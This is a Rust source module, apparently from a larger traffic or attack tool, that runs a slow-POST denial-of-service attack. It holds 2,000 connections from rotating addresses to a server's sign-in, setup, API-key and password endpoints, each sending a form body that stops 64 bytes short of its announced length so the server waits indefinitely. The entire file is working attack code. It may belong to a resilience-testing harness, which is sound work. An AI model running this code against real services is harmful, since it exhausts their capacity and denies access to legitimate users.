//! A client without a session sends forms without their last bytes and holds the connections, from many
//! addresses.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::runtime::Handle;

use crate::target::Target;
use crate::wire::{another_address, connect};

/// How many are held at once.
const HELD: usize = 2_000;

/// The pause of a refused client before the next form: this attack holds connections, and does not flood.
const TURNED_AWAY: Duration = Duration::from_secs(1);

/// Almost the maximum length of a form without a session; the last bytes never come.
const ANNOUNCED: usize = 13_000;
const WITHHELD: usize = 64;

pub(super) fn begin(runtime: &Handle, target: &Arc<Target>) {
    let body: Arc<[u8]> = vec![b'x'; ANNOUNCED - WITHHELD].into();
    for number in 0..HELD {
        let (target, body) = (Arc::clone(target), Arc::clone(&body));
        runtime.spawn(async move {
            loop {
                if let Err(error) = hold(&target, number, &body).await {
                    target.tally.broke(error);
                }
                tokio::time::sleep(TURNED_AWAY).await;
            }
        });
    }
}

/// Begins a form, and waits until the server has enough of it.
async fn hold(target: &Target, number: usize, body: &[u8]) -> io::Result<()> {
    let path = [
        "/sign-in",
        "/setup",
        "/organizations/bridges/settings/api-keys/new",
        "/account/password",
    ][number % 4];
    let mut stream = connect(target.server, another_address(), None).await?;
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {}\r\nSec-Fetch-Site: same-origin\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {ANNOUNCED}\r\n\r\n",
        target.server
    );
    stream.write_all(head.as_bytes()).await?;
    target.tally.held();
    stream.write_all(b"username=").await?;
    stream.write_all(&body[9..]).await?;
    let mut answer = [0; 1024];
    while stream.read(&mut answer).await? > 0 {}
    Ok(())
}
